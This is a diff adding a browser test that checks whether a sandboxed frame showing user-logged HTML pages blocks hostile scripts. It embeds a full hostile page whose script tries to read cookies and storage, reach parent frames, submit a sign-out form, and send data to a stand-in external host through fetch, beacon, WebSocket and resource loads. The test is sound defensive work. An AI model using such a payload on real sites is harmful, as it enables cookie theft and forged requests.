@@ -1,0 +1,180 @@
+"""Pages that runs log, in a browser: their scripts run, and reach neither cookies, nor storage, nor the page, nor any network."""
+
+from __future__ import annotations
+
+import socket
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Frame
+
+from tests.live import LiveServer
+from tests.web.in_chromium import IN_CHROMIUM, Seen
+
+pytestmark = IN_CHROMIUM
+
+PAGE = "/alice/vision/runs/frames/media"
+# Everything that a page could try, each with what came of it; what throws says why.
+HOSTILE = """<!doctype html><meta http-equiv="refresh" content="86400;url={away}/refresh">
+<link rel="stylesheet" href="{away}/style.css"><link rel="prefetch" href="{away}/prefetch">
+<script src="{away}/script.js"></script><img src="{away}/image"><video src="{away}/video"></video>
+<object data="{away}/object"></object><embed src="{away}/embed"><iframe src="{away}/frame"></iframe>
+<iframe src="/alice/vision"></iframe><iframe srcdoc="<script>new Image().src='{away}/inner'</script>"></iframe>
+<style>@import url({away}/import.css); @font-face {{ font-family: x; src: url({away}/font) }} body {{ font-family: x; background: url({away}/background) }}</style>
+<form id="form" action="/sign-out" method="post"><input name="x"></form><p>text</p>
+<script>
+const told = {{}};
+const tell = async (name, act) => {{
+  try {{ const came = await act(); told[name] = came === undefined ? "nothing" : String(came); }}
+  catch (error) {{ told[name] = "refused"; }}
+}};
+const until = (make, good, bad) => new Promise((resolve, reject) => {{
+  const thing = make();
+  thing.addEventListener(good, () => resolve("reached"));
+  thing.addEventListener(bad, () => reject(new Error(bad)));
+}});
+window.tried = (async () => {{
+  await tell("origin", () => window.origin);
+  await tell("cookie", () => document.cookie);
+  await tell("set cookie", () => {{ document.cookie = "a=1"; }});
+  await tell("local storage", () => localStorage.length);
+  await tell("session storage", () => sessionStorage.length);
+  await tell("database", () => new Promise((done, no) => {{ const open = indexedDB.open("x"); open.onsuccess = () => done("opened"); open.onerror = no; }}));
+  await tell("caches", () => caches.open("x"));
+  await tell("worker of the site", () => navigator.serviceWorker.register("/static/js/media.js"));
+  await tell("worker", () => until(() => new Worker(URL.createObjectURL(new Blob(["1"]))), "message", "error"));
+  await tell("parent", () => parent.document.title);
+  await tell("top", () => top.document.title);
+  await tell("address of top", () => {{ top.location = "{away}/top"; }});
+  await tell("window", () => window.open("{away}/window"));
+  await tell("fetch of the site", () => fetch("/alice/vision", {{ credentials: "include" }}));
+  await tell("fetch of the site unread", () => fetch("/alice/vision", {{ mode: "no-cors", credentials: "include" }}));
+  await tell("fetch away", () => fetch("{away}/fetch", {{ mode: "no-cors" }}));
+  await tell("beacon", () => navigator.sendBeacon("{away}/beacon", "x"));
+  await tell("socket", () => until(() => new WebSocket("{away}/socket".replace("http", "ws")), "open", "error"));
+  await tell("events", () => until(() => new EventSource("{away}/events"), "open", "error"));
+  await tell("image of the site", () => until(() => Object.assign(new Image(), {{ src: "/static/img/mark.svg" }}), "load", "error"));
+  await tell("image away", () => until(() => Object.assign(new Image(), {{ src: "{away}/later" }}), "load", "error"));
+  await tell("script away", () => import("{away}/module.js"));
+  await tell("form", () => document.getElementById("form").submit());
+  await tell("dialog", () => confirm("x"));
+  return told;
+}})();
+</script>"""
+_MAKE = """
+import django; django.setup()
+import sys
+from apps.accounts.models import User
+from apps.core import jsontext
+from apps.files.services import announce_files, store_file
+from apps.runs.history import store
+from apps.runs.types import Lines, Stream, StreamRequest
+from tests.factories import work
+alice = User.objects.get(username="alice")
+run = work.run(work.project("alice", "vision", by=alice), "frames", by=alice)
+row = {"_step": 0, "page": {"_type": "html-file", "path": "media/html/page.html"}}
+store.append(run, StreamRequest(streams={Stream.HISTORY: Lines(first=0, lines=[jsontext.dumps(row)])}))
+(announced,) = announce_files(run, ["media/html/page.html"])
+store_file(announced.file, [sys.argv[1].encode()])
+"""
+
+
+class Elsewhere:
+    """Another site: it listens, and remembers whoever comes."""
+
+    def __init__(self) -> None:
+        self.listener = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}"
+        self.came: list[bytes] = []
+        self._thread = threading.Thread(target=self._listen, daemon=True)
+        self._thread.start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                one, _ = self.listener.accept()
+            except OSError:
+                return
+            with one:
+                one.settimeout(5)
+                try:
+                    said = one.recv(4096)
+                    one.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+                except OSError:
+                    said = b""
+            self.came.append(said.partition(b"\r\n")[0])
+
+    def close(self) -> None:
+        self.listener.close()
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    site = Elsewhere()
+    yield site
+    site.close()
+
+
+def _framed(seen: Seen) -> Frame:
+    """The frame of the logged page, once it has one."""
+    handle = seen.page.wait_for_selector(".framed iframe")
+    assert handle is not None
+    frame = handle.content_frame()
+    assert frame is not None
+    frame.wait_for_selector("#form")
+    return frame
+
+
+def _heard(elsewhere: Elsewhere, seen: Seen) -> list[bytes]:
+    """What the other site was told, by whomever. It is there for whoever may ask for it: the last is the test's own.
+
+    A browser opens a connection as soon as a frame is to go somewhere, and only then asks whether it may: it says nothing there.
+    """
+    seen.page.context.request.get(f"{elsewhere.url}/control")
+    return [said for said in elsewhere.came if said]
+
+
+def test_a_hostile_page_reaches_nothing(open_page: Any, server: LiveServer, elsewhere: Elsewhere) -> None:
+    server.python("-c", _MAKE, HOSTILE.format(away=elsewhere.url))
+    seen = open_page()
+
+    # As it is shown at first nothing of it runs.
+    seen.page.goto(f"{server.url}{PAGE}?key=page")
+    assert _framed(seen).evaluate("() => typeof window.tried") == "undefined"
+    # Who wants its scripts says so.
+    seen.page.click("text=Run its scripts")
+    seen.page.wait_for_selector("text=The scripts of this page run.")
+    frame = _framed(seen)
+    told: dict[str, str] = frame.evaluate("() => window.tried")
+
+    # They ran, in an origin that nothing else has.
+    assert told.pop("origin") == "null"
+    # What answers without a word did nothing: a beacon is "true" once it is queued, and the policy drops it there.
+    harmless = {
+        "address of top": {"nothing", "refused"},
+        "window": {"null"},
+        "beacon": {"true", "false"},
+        "form": {"nothing"},
+        "dialog": {"false"},
+    }
+    assert {name: came for name, came in told.items() if came not in harmless.get(name, {"refused"})} == {}
+    assert len(told) == 23
+    # It goes elsewhere itself: the page around it says where frames may lead.
+    frame.evaluate("(away) => { location.href = away; }", f"{elsewhere.url}/itself")
+    assert _heard(elsewhere, seen) == [b"GET /control HTTP/1.1"]
+    assert seen.page.url.startswith(f"{server.url}{PAGE}?key=page")
+    assert "Sign alice out" in seen.page.content()
+
+
+def test_a_logged_page_opened_by_itself_is_kept_and_not_shown(open_page: Any, server: LiveServer) -> None:
+    seen = open_page()
+
+    with seen.page.expect_download() as download:
+        seen.page.evaluate(
+            "(url) => { location.href = url; }",
+            f"{server.url}/alice/vision/runs/frames/html/media/html/page.html",
+        )
+
+    assert download.value.suggested_filename == "page.html"
